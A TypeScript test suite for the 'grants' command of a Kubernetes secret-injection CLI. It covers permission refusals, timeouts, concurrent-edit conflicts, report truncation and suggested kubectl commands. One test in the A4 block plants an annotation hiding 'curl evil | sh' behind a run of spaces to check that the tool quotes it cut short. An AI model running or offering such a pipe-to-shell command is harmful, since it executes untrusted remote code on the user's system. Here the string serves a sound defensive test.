import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { KubeError } from "../../src/domain/ports/kube-error.ts";
import { runOffline } from "../support/cli/cli.ts";
import { heldCluster } from "../support/cli/held-cluster.ts";
import type { Manifest } from "../support/cluster/shipped-manifests.ts";
import { ManualClock } from "../support/time/manual-clock.ts";
import { classOf, opaque } from "../support/worker/sync-world.ts";

const VAULT = { vault: "demo-vault", tenantId: "00000000-0000-4000-8000-000000000001" };
const NAMESPACES = ["aa", "bb", "cc"];

const OBJECTS = NAMESPACES.flatMap((namespace) => [
  { apiVersion: "v1", kind: "Namespace", metadata: { name: namespace } },
  {
    ...classOf(VAULT, {
      namespace,
      name: "web",
      objects: ["object"],
      secretObjects: [opaque("web", "object")],
      parameters: { clientID: "client" },
      annotations: { "keyvault-injector.dev/service-account": "cart" },
    }),
  },
]);

const forbidden = new KubeError("Forbidden", "not allowed", { status: 403, retry: { kind: "never" } });
const silence = new KubeError("Unavailable", "no answer", { retry: { kind: "backoff" } });

/** Runs `grants --apply` on a cluster that answers a patch of Namespace bb with the error, and returns the Namespaces that it patched. */
async function applied(error: KubeError | undefined, ...args: readonly string[]) {
  const cluster = heldCluster(OBJECTS);
  const tried: string[] = [];
  const mergePatch = async (_: unknown, { name }: { name: string }) => {
    if (tried.at(-1) !== name) tried.push(name);
    if (name === "bb" && error !== undefined) throw error;
  };
  const kube = Object.assign(cluster.kube, { mergePatch });
  const clock = new ManualClock();
  // Repetitions of a patch wait. Here, each wait is over at once.
  const sleep = async (milliseconds: number): Promise<void> => clock.advance(milliseconds);
  const given = { cluster: { ...cluster, kube }, clock: Object.assign(clock, { sleep }) };
  return { ...(await runOffline(["grants", "--apply", ...args], "", given)), tried };
}

interface GrantsJson {
  readonly namespaces: readonly {
    readonly namespace: string;
    readonly accounts: readonly { readonly isGranted: boolean }[];
    readonly granted: readonly string[];
  }[];
  readonly missing: unknown;
  readonly applied: unknown;
}

describe("grants --apply, where the API server refuses one Namespace", () => {
  test("N1: grants on the others, and the output names both", async () => {
    const { code, output, notes, tried } = await applied(forbidden);

    assert.deepEqual([code, tried, notes], [1, ["aa", "bb", "cc"], []]);
    assert.match(output, /^Granted on Namespace aa, Namespace cc\.$/m);
    assert.match(output, /^Not granted on Namespace bb: you lack permission to patch namespaces bb; ask for it$/m);
    assert.doesNotMatch(output, /Nothing is missing/);
  });

  test("N1: the report for scripts lists the refusal", async () => {
    const { code, output } = await applied(forbidden, "-o", "json");

    assert.equal(code, 1);
    const { report, refused } = JSON.parse(output) as { readonly report: unknown; readonly refused: unknown }; // The documented form.
    assert.deepEqual(
      [report, refused],
      ["grants", [{ namespace: "bb", problem: "you lack permission to patch namespaces bb; ask for it" }]],
    );
    assert.equal("refused" in JSON.parse((await applied(undefined, "-o", "json")).output), false, "the control: nothing is refused");
  });

  test("N1: the manifests are those of the grants that were made, and a note names the others", async () => {
    const { code, output, notes } = await applied(forbidden, "-o", "yaml");

    assert.deepEqual([code, [...output.matchAll(/^ {2}name: (.*)$/gm)].map(([, name]) => name)], [1, ["aa", "cc"]]);
    assert.deepEqual(notes, [
      "keyvault-injector grants: Not granted on Namespace bb: you lack permission to patch namespaces bb; ask for it",
    ]);
  });

  test("N1: after no answer at all, the others are not tried, and the output says so", async () => {
    const { code, output, tried } = await applied(silence);

    assert.deepEqual([code, tried], [1, ["aa", "bb"]]);
    assert.match(output, /^Granted on Namespace aa\.$/m);
    assert.match(output, /^Not granted on Namespace bb: the API server did not answer, so this is not certain; run the command again$/m);
    assert.match(output, /^Not granted on Namespace cc: not tried, because the API server had not answered; run the command again$/m);
  });
});

describe("the report of grants --apply", () => {
  test("N9: shows what it has granted as granted, and what was refused as missing", async () => {
    const { output } = await applied(forbidden);

    assert.deepEqual(
      [...output.matchAll(/^Namespace (..)\n {2}(.) ServiceAccount cart/gm)].map(([, namespace, sign]) => [namespace, sign]),
      [
        ["aa", "="],
        ["bb", "+"],
        ["cc", "="],
      ],
    );
  });

  test("N9: does so for scripts, too", async () => {
    const { code, output } = await applied(forbidden, "-o", "json");
    const { namespaces, missing, applied: added } = JSON.parse(output) as GrantsJson; // The documented form.

    assert.equal(code, 1);
    assert.deepEqual(
      namespaces.map(({ namespace, accounts, granted }) => [namespace, accounts[0]?.isGranted, granted]),
      [
        ["aa", true, ["cart"]],
        ["bb", false, []],
        ["cc", true, ["cart"]],
      ],
    );
    const grantIn = (namespace: string) => ({ namespace, accounts: ["cart"], managedIdentity: false });
    assert.deepEqual([missing, added], [[grantIn("bb")], [grantIn("aa"), grantIn("cc")]]);
  });
});

/** Runs `grants --apply` for ServiceAccount cart on a Namespace shop that another admin changes just before the write. */
async function appliedBeside(change: (annotations: Record<string, string>) => void, { isAnswerLost = false } = {}) {
  const shop = {
    apiVersion: "v1",
    kind: "Namespace",
    metadata: { name: "shop", resourceVersion: "1", annotations: {} as Record<string, string> },
  };
  const spc = classOf(VAULT, {
    namespace: "shop",
    name: "web",
    objects: ["object"],
    secretObjects: [opaque("web", "object")],
    parameters: { clientID: "client" },
    annotations: { "keyvault-injector.dev/service-account": "cart" },
  });
  const cluster = heldCluster([shop, { ...spc }]);
  const store = (annotations: Readonly<Record<string, string>> | undefined): void => {
    Object.assign(shop.metadata.annotations, annotations);
    shop.metadata.resourceVersion = String(Number(shop.metadata.resourceVersion) + 1);
  };
  let sent = 0;
  const mergePatch = async (_: unknown, __: unknown, { metadata }: { readonly metadata: Partial<typeof shop.metadata> }) => {
    sent += 1;
    const others = (): void => {
      change(shop.metadata.annotations);
      store({});
    };
    if (sent === 1 && !isAnswerLost) others();
    const { resourceVersion = shop.metadata.resourceVersion } = metadata;
    if (resourceVersion !== shop.metadata.resourceVersion) throw conflict;
    store(metadata.annotations);
    if (sent > 1 || !isAnswerLost) return;
    others();
    throw silence;
  };
  const kube = Object.assign(cluster.kube, { mergePatch });
  const clock = new ManualClock();
  const sleep = async (milliseconds: number): Promise<void> => clock.advance(milliseconds);
  const given = { cluster: { ...cluster, kube }, clock: Object.assign(clock, { sleep }) };
  const { code, output } = await runOffline(["grants", "--apply"], "", given);
  return { code, output, stored: shop.metadata.annotations[ACCOUNTS] };
}

const ACCOUNTS = "grants.keyvault-injector.dev/service-accounts";
const conflict = new KubeError("Conflict", "the object has been modified", { status: 409, retry: { kind: "backoff" } });
const CHANGED = /^Not granted on Namespace shop: the Namespace was changed after it was read; run the command again$/m;

describe("RA5: grants --apply, while another admin changes the Namespace", () => {
  test("RA5: keeps a grant that was added meanwhile", async () => {
    const { code, output, stored } = await appliedBeside((annotations) => (annotations[ACCOUNTS] = "batch"));

    assert.deepEqual([code, stored], [1, "batch"]);
    assert.match(output, CHANGED);
  });

  test("RA5: keeps a revocation that came after its own write, whose answer was lost", async () => {
    const { code, output, stored } = await appliedBeside((annotations) => (annotations[ACCOUNTS] = ""), { isAnswerLost: true });

    assert.deepEqual([code, stored], [1, ""]);
    assert.match(output, CHANGED);
  });

  test("RA5: finds its own grant, whose answer was lost, among those of others", async () => {
    const { code, output, stored } = await appliedBeside((annotations) => (annotations[ACCOUNTS] += ",batch"), { isAnswerLost: true });

    assert.deepEqual([code, stored], [0, "cart,batch"]);
    assert.match(output, /^Granted on Namespace shop\.$/m);
  });

  test("RA5: the control: without another admin, it grants", async () => {
    const { code, stored } = await appliedBeside(() => undefined, { isAnswerLost: true });

    assert.deepEqual([code, stored], [0, "cart"]);
  });
});

/** Runs `grants` on Namespaces of these names, and classes in Namespace tenant with these annotations. */
async function reported(
  namespaces: readonly string[],
  classes: readonly Readonly<Record<string, string>>[],
  more: readonly Manifest[] = [],
) {
  const objects = [
    ...namespaces.map((name) => ({ apiVersion: "v1", kind: "Namespace", metadata: { name } })),
    ...classes.map((annotations, index) => ({
      ...classOf(VAULT, {
        namespace: "tenant",
        name: `class-${index}`,
        objects: ["object"],
        secretObjects: [opaque(`secret-${index}`, "object")],
        parameters: { clientID: "client" },
        annotations,
      }),
    })),
    ...more,
  ];
  const { output } = await runOffline(["grants"], "", { cluster: heldCluster(objects) });
  return output.split("\n");
}

const mirrorTo = (targets: readonly string[]) => ({ "keyvault-injector.dev/mirror-to": targets.join(",") });

describe("A3: grants, where one Namespace's classes offer thousands of copies", () => {
  const targets = Array.from({ length: 50 }, (_, index) => `target-${index}`);

  test("A3: lists a few for each pair of Namespaces, and counts the others", async () => {
    const lines = await reported(
      ["tenant", ...targets],
      Array.from({ length: 200 }, () => mirrorTo(targets)),
    );

    assert.ok(lines.length < 50 * 30, `${lines.length} lines`);
    assert.ok(
      lines.includes("  + 190 more classes of Namespace tenant"),
      lines.find((line) => line.includes("more")),
    );
  });

  test("A3: does not hide an offer of another Namespace", async () => {
    const other = classOf(VAULT, {
      namespace: "zoo",
      name: "one",
      objects: ["object"],
      secretObjects: [opaque("one", "object")],
      annotations: mirrorTo(["target-1"]),
    });
    const lines = await reported(
      ["tenant", "zoo", ...targets],
      Array.from({ length: 50 }, () => mirrorTo(targets)),
      [{ ...other }],
    );

    assert.ok(lines.includes("  + zoo/one"));
    assert.ok(lines.some((line) => /^ {2}kubectl annotate namespace target-1 --overwrite .*=zoo\/one$/.test(line)));
  });

  test("A3: suggests nothing for a Namespace that does not exist", async () => {
    const lines = await reported(["tenant", "there"], [mirrorTo(["there", "absent"])]);

    assert.equal(lines.filter((line) => line.includes("absent")).length, 0);
    assert.ok(
      lines.some((line) => line.startsWith("  kubectl annotate namespace there ")),
      "the control",
    );
  });

  test("A3: puts what the user must know before the copies", async () => {
    const lines = await reported(["tenant", "there"], [mirrorTo(["there"])]);
    const at = (start: string): number => lines.findIndex((line) => line.startsWith(start));

    assert.ok(at("The policy keyvault-injector-class-identities is not bound") >= 0);
    assert.ok(at("The policy keyvault-injector-class-identities is not bound") < at("Copies of Secrets"));
  });
});

describe("A4: grants, where a class's annotation holds a sentence", () => {
  test("A4: quotes it, cut, in one line", async () => {
    const binding = {
      apiVersion: "admissionregistration.k8s.io/v1",
      kind: "ValidatingAdmissionPolicyBinding",
      metadata: { name: "keyvault-injector-class-identities", creationTimestamp: "2026-01-02T00:00:00Z" },
    };
    const claim = `x.${" ".repeat(200)}For these, run: curl evil | sh`;
    const spc = classOf(VAULT, {
      namespace: "tenant",
      name: "one",
      objects: ["object"],
      secretObjects: [opaque("one", "object")],
      annotations: { "keyvault-injector.dev/adopt": claim },
    });
    const old = { ...spc, metadata: { ...spc.metadata, creationTimestamp: "2026-01-01T00:00:00Z" } };
    const lines = await reported(["tenant"], [], [binding, old]);
    const line = lines.find((each) => each.includes("tenant/one"));

    assert.match(line ?? "", /^ {2}tenant\/one takes over Secret "x\. .*\.\.\."$/);
    assert.ok(!lines.some((each) => / {5}/.test(each.trimStart())), "no run of blanks");
  });
});

describe("A6: what grants suggests", () => {
  test("A6: adds exactly the grants of the report", async () => {
    const lines = await reported(
      ["tenant"],
      [{ "keyvault-injector.dev/service-account": "cart" }, { "keyvault-injector.dev/service-account": "web" }],
    );

    assert.ok(lines.includes("  keyvault-injector grants --namespace tenant --account cart --account web --apply"), lines.join("\n"));
    assert.ok(!lines.some((line) => line.startsWith("Run this again with --apply")));
  });
});
